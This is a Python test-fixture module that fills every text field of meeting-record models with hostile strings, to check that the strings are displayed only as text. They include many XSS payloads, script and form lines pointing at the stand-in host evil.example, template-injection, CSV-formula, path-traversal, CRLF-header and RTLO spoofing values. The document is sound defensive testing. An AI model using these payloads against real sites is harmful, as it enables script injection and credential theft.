"""Words that are text in a document, and must be text wherever they are shown again.

`hostile_record` has each of them in every text field that a record has, also in fields that are
added tomorrow: it asks the models which those are.
"""

import datetime as dt
import hashlib
from collections.abc import Iterable, Iterator
from types import UnionType
from typing import Any, Union, get_args, get_origin

from tourdetable.framework import profiles
from tourdetable.record import (
    Acronym,
    Act,
    AgendaItem,
    AgendaKind,
    Count,
    Decision,
    Document,
    Doubt,
    Event,
    Fact,
    Finding,
    Framework,
    Goal,
    Intervention,
    Meeting,
    Office,
    Paragraph,
    Participant,
    ParticipantKind,
    Person,
    Place,
    Presence,
    Project,
    ProjectStatus,
    Proposition,
    Record,
    Severity,
)

CALL = "alert(1)"
WORDS = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<img src=x onerror={CALL}>",
    f'"><img src=x onerror={CALL}>',
    f"'><img src=x onerror={CALL}>",
    f'" onmouseover="{CALL}" x="',
    f"' onfocus='{CALL}' autofocus='",
    f"` onclick=`{CALL}",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f'<svg><a xlink:href="javascript:{CALL}"><text>x</text></a></svg>',
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<object data=javascript:{CALL}></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><input name=password></form>",
    f"<button formaction=javascript:{CALL}>x</button>",
    f"<details open ontoggle={CALL}>",
    f"<body onload={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<a href='java\tscript:{CALL}'>x</a>",
    f"<a href=data:text/html,<script>{CALL}</script>>x</a>",
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}//",
    f"&#106;avascript:{CALL}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{CALL}",
    "https://evil.example/pixel.gif",
    "//evil.example/x",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=background:url(//evil.example/x)>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<![CDATA[<script>{CALL}</script>]]>",
    f"<?php echo 1 ?><%= 1 %><script>{CALL}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<textarea></textarea><script>{CALL}</script>",
    f"<template><script>{CALL}</script></template>",
    f"</title></style></textarea><script>{CALL}</script>",
    "{{ request.user.password }}{% debug %}{# x #}",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}#{7*7}",
    f"[x](javascript:{CALL})",
    "![x](https://evil.example/pixel.gif)",
    f'[x]: javascript:{CALL} "x"',
    f"<javascript:{CALL}>",
    "<https://evil.example/>",
    f"[x](<javascript:{CALL}> '\"><script>{CALL}</script>')",
    "| a | b |\n| --- | --- |\n| **c** | `d` |",
    "# a\n\n---\n\n> b\n\n```html\n<script>alert(1)</script>\n```\n",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"＜script＞{CALL}＜/script＞",
    f"\ufeff<script>{CALL}</script>",
    f"<\u200bscript>{CALL}</script>",
    "\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe\N{POP DIRECTIONAL FORMATTING}",
    "\N{LEFT-TO-RIGHT ISOLATE}\N{RIGHT-TO-LEFT EMBEDDING}Peru",
    "\x01\x08\x0b\x0c\x1b[2J\x7f\x85\u2028\u2029",
    '=HYPERLINK("https://evil.example/","x")',
    "../../../etc/passwd",
    'x"; filename="evil.exe',
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "a" * 5_000,
    "<b>" * 1_500,
    "Z" + "\N{COMBINING GRAVE ACCENT}" * 200,
    "hx-get=//evil.example/ hx-on:click=alert(1) data-hx-on--load=alert(1)",
    f"<div hx-on:htmx:load={CALL} hx-get='//evil.example/' hx-trigger=load>",
)
GAP = "\n\n"
TEXT = GAP.join(WORDS)
LIMITS = {"code": 100, "name": 500}
"""Characters that a field of a participant holds."""


def place_of(number: int) -> Place:
    """Where one of them stands."""
    start = sum(len(one) + len(GAP) for one in WORDS[:number])
    words = WORDS[number]
    return Place(start=start, end=start + len(words), words=words, paragraph=words[:80])


def filled(model: type[Fact], number: int, /, **given: Any) -> Any:
    """A fact with the words in every text field that is not given."""
    told = {
        name: text_of(name, field.annotation, number)
        for name, field in model.model_fields.items()
        if name not in given and holds_text(field.annotation)
    }
    return model.model_validate(told | given)


def holds_text(kind: Any) -> bool:
    """Whether a field is for free text, or for several."""
    if get_origin(kind) in {Union, UnionType}:
        return any(map(holds_text, get_args(kind)))
    return kind is str or (get_origin(kind) is tuple and get_args(kind)[0] is str)


def text_of(name: str, kind: Any, number: int) -> Any:
    """The words as such a field takes them."""
    words = WORDS[number]
    if get_origin(kind) is tuple:
        return (words,)
    return words[: LIMITS[name]] if name in LIMITS else words


def facts(number: int) -> Iterator[tuple[str, Any]]:
    """A fact of every kind with these words, and the name of its kind in a record."""
    place = place_of(number)
    name = f"{number} {WORDS[number]}"[:500]
    state = number % 2 == 0
    yield "offices", filled(Office, number, participant=name, place=place)
    yield (
        "participants",
        filled(
            Participant,
            number,
            name=name,
            code=f"{number} {WORDS[number]}"[:100],
            kind=ParticipantKind.STATE if state else ParticipantKind.ORGANISATION,
            presence=Presence.LISTED if number % 3 else Presence.SPOKE,
            place=place,
        ),
    )
    yield "counts", filled(Count, number, number=9, place=place)
    yield "people", filled(Person, number, participant=name, place=place)
    yield "agenda", filled(AgendaItem, number, kind=AgendaKind.DISCUSSION, place=place)
    yield (
        "interventions",
        filled(
            Intervention,
            number,
            id=f"i{number} {WORDS[number]}",
            speakers=(name,),
            acts=tuple({list(Act)[number % len(Act)], Act.OFFER}),
            goals=({"code": WORDS[number][:100], "basis": "stated"},),
            classification=None,
            attribution=None,
            wording=None if number % 4 else WORDS[number],
            place=place,
        ),
    )
    yield "propositions", filled(Proposition, number, stance="support", place=place)
    yield "decisions", filled(Decision, number, place=place)
    yield "events", filled(Event, number, place=place)
    yield "projects", filled(Project, number, status=ProjectStatus.RUNNING, place=place)
    yield "acronyms", filled(Acronym, number, place=place)
    yield (
        "findings",
        filled(Finding, number, severity=Severity.WARNING, places=(place, place)),
    )
    yield "doubts", filled(Doubt, number, place=place)


def hostile_record(number: int, *, of: Iterable[int]) -> Record:
    """A record with facts of these words; its meeting and document are called by one of them."""
    kinds: dict[str, list[Any]] = {}
    for one in of:
        for kind, fact in facts(one):
            kinds.setdefault(kind, []).append(fact)
    words = WORDS[number]
    text = f"{TEXT}{GAP}{number}"
    return Record(
        document=filled(
            Document,
            number,
            sha256=hashlib.sha256(text.encode()).hexdigest(),
            text=text,
            media_type="text/markdown" if number % 2 else "text/plain",
            language="en",
            paragraphs=tuple(
                Paragraph(label=WORDS[n][:80], start=place_of(n).start, end=place_of(n).end)
                for n in range(len(WORDS))
            ),
        ),
        meeting=filled(
            Meeting,
            number,
            title=words,
            dialogue=profiles.load("budapest_process").name,
            starts_on=dt.date(2020, 1, 1) + dt.timedelta(days=number),
            source=place_of(number),
            classification="public",
            attribution="named",
        ),
        framework=Framework(
            title=words,
            version=words,
            goals=tuple(
                Goal(code=f"{n}", title=WORDS[n], place=place_of(n)) for n in range(len(WORDS))
            ),
        ),
        **{kind: tuple(held) for kind, held in kinds.items()},
    )
